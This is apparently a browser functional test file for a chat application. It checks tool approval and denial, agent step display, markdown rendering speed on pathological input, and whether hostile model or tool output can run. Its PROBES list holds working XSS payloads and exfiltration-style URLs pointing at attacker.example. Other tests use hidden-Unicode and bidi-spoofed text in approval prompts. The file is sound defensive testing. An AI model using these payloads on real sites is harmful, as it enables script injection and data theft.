"""Tools, approvals and agents on the chat page, and what a hostile model or tool says."""

import pytest

from tests.functional.browser import needs_browser
from tests.functional.chat_page.conftest import MARKDOWN, Page
from tests.functional.conftest import Server, StartServer, block

pytestmark = [pytest.mark.interop, needs_browser]

TOOL = '''
__all__ = ["echo"]


def echo(text: str) -> str:
    """Say it again.

    Args:
        text: What to say.
    """
    return text
'''
SKILL = "---\ndescription: Repeats what it is told.\n---\nYou repeat.\n"
CALL = {"tool_call": [{"name": "echo", "args": {"text": "Hear, hear."}}]}
USE = """
    press('New conversation');
    $('settings').click();
    await until(() => all('dialog [type=checkbox]').length >= 2);
    for (const each of all('dialog [type=checkbox]')) each.checked = true;
    $('policy').value = policy;
    press('Save');
    await until(() => $('settings').textContent.includes('('));
"""
MADE = """
    await until(() => answers().length);
    const inside = all('#messages *, #sidebar *, main > header *');
    const made = inside.map((each) => each.localName);
    const attributes = inside.flatMap((each) => [...each.attributes]).map(({ name }) => name);
    const links = all('#messages a');
    for (const each of links) each.click();
    return [
      [
        ...made.filter((name) => /script|img|svg|iframe|object|form|style|base|meta/.test(name)),
        ...attributes.filter((name) => name.startsWith('on') || name === 'style'),
      ],
      [...new Set(links.map((each) => new URL(each.href).protocol))],
      window.hacked ?? null,
    ];
"""
PROBES = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'></svg>",
    "<svg><script>window.hacked = 1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<iframe src='javascript:parent.hacked = 1'></iframe>",
    "<details open ontoggle='window.hacked = 1'>x</details>",
    "<input autofocus onfocus='window.hacked = 1'>",
    "<a href='javascript:window.hacked = 1'>x</a>",
    "<math><mtext><style><img src=x onerror='window.hacked = 1'></style></mtext></math>",
    "<object data='javascript:window.hacked = 1'></object>",
    "<base href='https://attacker.example/'>",
    "<meta http-equiv='refresh' content='0;url=javascript:window.hacked=1'>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "<form action='javascript:window.hacked = 1'><button>x</button></form>",
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1)",
    "[x](java\tscript:window.hacked=1)",
    "[x](data:text/html,<script>parent.hacked=1</script>)",
    "![x](https://attacker.example/?secret)",
    "[`</code><script>window.hacked = 1</script>`](vbscript:x)",
    "```html\n</code></pre><script>window.hacked = 1</script>\n```",
    "# <img src=x onerror='window.hacked = 1'>",
    "</title></textarea></script><script>window.hacked = 1</script>",
]


@pytest.fixture(scope="module")
def server(start_once: StartServer) -> Server:
    """Return a server with a tool, and an agent that has it too."""
    server = start_once()
    tools, agent = server.data_dir / "tools", server.data_dir / "agents" / "parrot"
    tools.mkdir()
    agent.mkdir(parents=True)
    (tools / "repeating.py").write_text(TOOL)
    (agent / "parrot.py").write_text(TOOL)
    (agent / "__init__.py").write_text("from .parrot import echo\n__all__ = ['echo']\n")
    (agent / "SKILL.md").write_text(SKILL)
    return server


async def test_a_tool_runs_once_it_is_approved_also_after_a_reload(page: Page) -> None:
    message = block(CALL, {"text_message": {"text": "It said so."}}, per_request=True)
    asked = "await until(() => all('.question').length === 1)"
    await page.do(f"{USE} await say(text); {asked}", policy="always_confirm", text=message)
    address = await page.do("return location.hash")

    await page.open(f"/{address}")
    await page.do(f"{asked}; await decide('Approve')")

    assert (await page.do("await idle(); return answers()"))[-1] == "It said so."
    assert await page.do("return all('.call .result').map((e) => e.textContent)") == ["Hear, hear."]
    assert await page.do("return all('.question').length") == 0


async def test_a_tool_that_is_denied_does_not_run(page: Page) -> None:
    message = block(CALL, {"text_message": {"text": "Then not."}}, per_request=True)
    await page.do(f"{USE} await say(text)", policy="always_confirm", text=message)
    await page.do("await until(() => all('.question').length === 1); await decide('Deny')")
    assert (await page.do("await idle(); return answers()"))[-1] == "Then not."
    assert await page.do("return all('.call summary .failed').map((e) => e.textContent)") == [
        "denied"
    ]


async def test_the_steps_of_an_agent_are_shown_while_it_works(page: Page) -> None:
    plan, said = {"text_message": {"text": "1. Repeat."}}, {"text_message": {"text": "Repeated."}}
    call = {"name": "agent", "args": {"agent": "parrot"}}
    call["args"] |= {"instruction": block(plan, CALL, said, per_request=True)}
    message = block({"tool_call": [call]}, {"text_message": {"text": "It did."}}, per_request=True)
    await page.do(f"{USE} await say(text)", policy="never_confirm", text=message)
    shown = """
        const steps = () => all('.steps').map((each) => each.textContent);
        return until(() => steps().find((each) => each.includes('says')));
    """
    steps = await page.do(shown)
    assert all(each in steps for each in ("1. Repeat.", "calls echo", "echo returned", "Repeated."))
    assert (await page.do("await idle(); return answers()"))[-1] == "It did."


async def test_nothing_that_a_model_or_a_tool_says_runs(page: Page) -> None:
    text = "\n\n".join(PROBES)
    call = {"tool_call": [{"name": "echo", "args": {"text": text}}]}
    answer = {"text_message": {"text": text, "reasoning": text}}
    await page.do(
        f"$('think').value = 'true'; {USE} await say(text); await idle()",
        policy="never_confirm",
        text=f"{text} {block(call, answer, per_request=True)}",
    )
    address = await page.do(
        """
        const title = probes.join(' ').slice(0, 200);
        const changed = await fetch(`/api/v1/sessions/${location.hash.slice(2)}`, {
          method: 'PATCH',
          headers: { 'Content-Type': 'application/json' },
          body: JSON.stringify({ title }),
        });
        if (!changed.ok) throw new Error(await changed.text());
        return location.hash;
        """,
        probes=PROBES,
    )
    assert await page.do(MADE) == [[], ["https:"], None]
    await page.open(f"/{address}")
    await page.do("await until(() => document.title.includes('script'))")
    assert await page.do(MADE) == [[], ["https:"], None]
    asked = [each["request"]["url"] for each in page.tab.seen("Network.requestWillBeSent")]
    assert [url for url in asked if "attacker" in url] == []
    assert page.crashes == []


async def test_long_texts_of_nothing_but_marks_are_drawn_at_once(page: Page) -> None:
    marks = [
        "*",
        "**a ",
        "`",
        "`a ",
        "[",
        "[a](",
        "- a\n",
        "> ",
        "```\n",
        "# ",
        "1. ",
        "~~a ",
        "_",
        "|\n\n",
    ]
    drawn = (
        MARKDOWN
        + """
        for (const each of marks) new MarkdownText().update(`${each.repeat(100000)}x`);
        return marks.map((each) => markdown(each.repeat(100000)).childNodes.length > 0);
    """
    )
    assert await page.do(drawn, marks=marks) == [True] * len(marks)


@pytest.mark.timeout(60)  # took the square of the length: hours for these
@pytest.mark.parametrize(
    "marks", ["[", "![", "[a", "`", "`a``a", "[a](", "**a ", "***a", "~~a ", "$a", "\\(", "http://"]
)
async def test_paragraphs_of_marks_that_nothing_closes_are_drawn_at_once(
    page: Page, marks: str
) -> None:
    seconds = await page.do(
        MARKDOWN
        + """
        const paragraph = marks.repeat(4900 / marks.length);
        const begun = performance.now();
        markdown(`${paragraph}\\n\\n`.repeat(40));
        return (performance.now() - begun) / 1000;
        """,
        marks=marks,
    )
    assert seconds < 10  # takes half of one on an idle machine


@pytest.mark.timeout(60)  # took the square of the length: a minute for the first
@pytest.mark.parametrize(
    ("begin", "end"), [("$$a\n", "$$"), ("$$a\n\nb\n\n", "$$"), ("\\[a\n\n", "\\] b")]
)
async def test_formulas_that_begin_on_every_line_are_drawn_at_once(
    page: Page, begin: str, end: str
) -> None:
    seconds = await page.do(
        MARKDOWN
        + """
        const begun = performance.now();
        markdown(begin.repeat(199990 / begin.length) + end);
        return (performance.now() - begun) / 1000;
        """,
        begin=begin,
        end=end,
    )
    assert seconds < 10  # takes half of one on an idle machine


@pytest.mark.timeout(60)  # took the square of the length: hours for these
async def test_long_lines_that_begin_like_something_else_are_drawn_at_once(page: Page) -> None:
    lines = [("# ", "#", "x"), ("# ", " ", "x"), ("# ", " ", "\r"), ("```", "a", "`")]
    lines += [("~", "~", "`"), ("- ", " ", "\r"), ("1. ", "\t", "\u2028"), ("-", " ", "x")]
    drawn = (
        MARKDOWN
        + """
        const texts = lines.map(([begin, each, end]) => begin + each.repeat(1000000) + end);
        return texts.map((text) => markdown(text).textContent.length > 0);
    """
    )
    assert await page.do(drawn, lines=lines) == [True] * len(lines)


async def test_headings_are_drawn_without_the_marks_that_close_them(page: Page) -> None:
    texts = ["# a ##", "## a # b#\t##  #", "### #", "# a #  ", "#### a"]
    drawn = (
        MARKDOWN
        + """
        const shown = (each) => [each.tagName, each.textContent];
        return texts.map((text) => shown(markdown(text).firstChild));
    """
    )
    assert await page.do(drawn, texts=texts) == [
        *(["H3", "a"], ["H4", "a # b#\t##"], ["H5", ""], ["H3", "a"], ["H6", "a"]),
    ]


async def test_nothing_in_an_approval_is_hidden_or_turned_around(page: Page) -> None:
    hidden = "\u202e\u200b\u2060\ufe0f\u3164\u115f\U000e0041\U000e0101"
    call = {"tool_call": [{"name": "echo", "args": {"text": f"rm {hidden} עברית"}}]}
    message = block(call, {"text_message": {"text": "Done."}}, per_request=True)
    await page.do(f"{USE} await say(text)", policy="always_confirm", text=message)
    shown = await page.do(
        "await until(() => all('.question').length === 1); return all('.call pre')[0].textContent"
    )
    escapes = hidden.encode("utf-16-be").hex()
    escapes = "".join(f"\\u{escapes[at : at + 4]}" for at in range(0, len(escapes), 4))
    assert f'"rm {escapes} עברית"' in shown
    isolated = "return all('.call pre bdi').map((each) => each.textContent)"
    assert f'"rm {escapes} עברית"' in await page.do(isolated)
    assert await page.do("return all('.question bdi').map((each) => each.textContent)") == ["echo"]


async def test_an_approval_of_a_misleading_agent_or_tool_shows_its_real_name(page: Page) -> None:
    drawn = """
        const { CallCard } = await import('/call_card.js');
        const card = new CallCard('x', {});
        const asked = { confirmation_id: 'c', tool_name: name, agent_name: name, arguments: {} };
        card.ask(asked, () => {});
        return card.element.querySelector('.question p').textContent;
    """
    name = "read\u202eetirw"
    escaped = "read\\u202eetirw"
    assert await page.do(drawn, name=name) == f"The agent {escaped} wants to run {escaped}:"
